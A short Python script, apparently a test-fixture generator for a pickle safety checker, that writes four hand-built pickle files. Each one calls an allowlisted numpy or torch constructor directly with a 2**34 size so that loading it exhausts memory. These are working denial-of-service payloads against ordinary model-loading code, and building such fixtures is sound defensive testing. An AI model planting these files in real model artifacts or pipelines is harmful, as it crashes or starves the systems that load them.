# Allocation bombs through allowlisted constructors called directly (not via _reconstruct / bytes()).
import struct, sys, os
O = sys.argv[1]
def g(m, n): return b'c' + m.encode() + b'\n' + n.encode() + b'\n'
def su(s): b = s.encode(); return b'X' + struct.pack('<I', len(b)) + b
N = b'\x8a\x05' + (2**34).to_bytes(5, 'little')  # LONG1 2**34
files = {
 'ndarray-direct.pkl': b'\x80\x02' + g('numpy', 'ndarray') + N + b'\x85' + su('O') + b'\x86R.',
 'tensor-ctor.pkl': b'\x80\x02' + g('torch', 'Tensor') + N + b'\x85R.',
 'untyped-storage.pkl': b'\x80\x02' + g('torch', 'UntypedStorage') + N + b'\x85R.',
 'float-storage.pkl': b'\x80\x02' + g('torch', 'FloatStorage') + N + b'\x85R.',
}
for k, v in files.items(): open(os.path.join(O, k), 'wb').write(v)
